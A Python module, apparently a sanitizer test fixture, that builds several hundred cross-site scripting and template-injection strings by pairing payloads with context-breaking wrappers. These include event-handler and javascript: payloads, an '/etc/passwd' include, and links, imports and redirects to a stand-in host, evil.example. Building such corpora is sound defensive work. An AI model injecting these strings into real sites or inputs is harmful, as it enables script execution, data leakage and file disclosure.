"""Some hundreds of strings that try to become markup or script, made by combining payloads with ways to smuggle them."""

from __future__ import annotations

RUN = "hit=1"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"[x](javascript:{RUN})",
    f"![x](https://evil.example/a.png?{RUN})",
    f'<style>@import "https://evil.example/{RUN}"</style>',
    "<link rel=stylesheet href=https://evil.example/a.css>",
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "<base href=https://evil.example/>",
    f"<object data=javascript:{RUN}>",
    "<form action=https://evil.example/><button>go</button></form>",
    f"<template><script>{RUN}</script></template>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "{% include '/etc/passwd' %}{{ 7*7 }}",
)
WAYS = (
    "{}",
    "'>{}",
    '">{}',
    "</textarea>{}",
    "</title>{}",
    "--><!--{}",
    "]]>{}",
    "</script>{}",
    "</template>{}",
    "`${{{}}}`",
    "\u202e{}\u202c",
    "\ufeff{}\u200b",
    "' autofocus onfocus=hit=1 x='{}",
    '" style=background:url(https://evil.example/) x="{}',
    "&lt;/p&gt;{}&#x3c;",
)
ATTACKS = tuple(way.format(payload) for payload in PAYLOADS for way in WAYS)
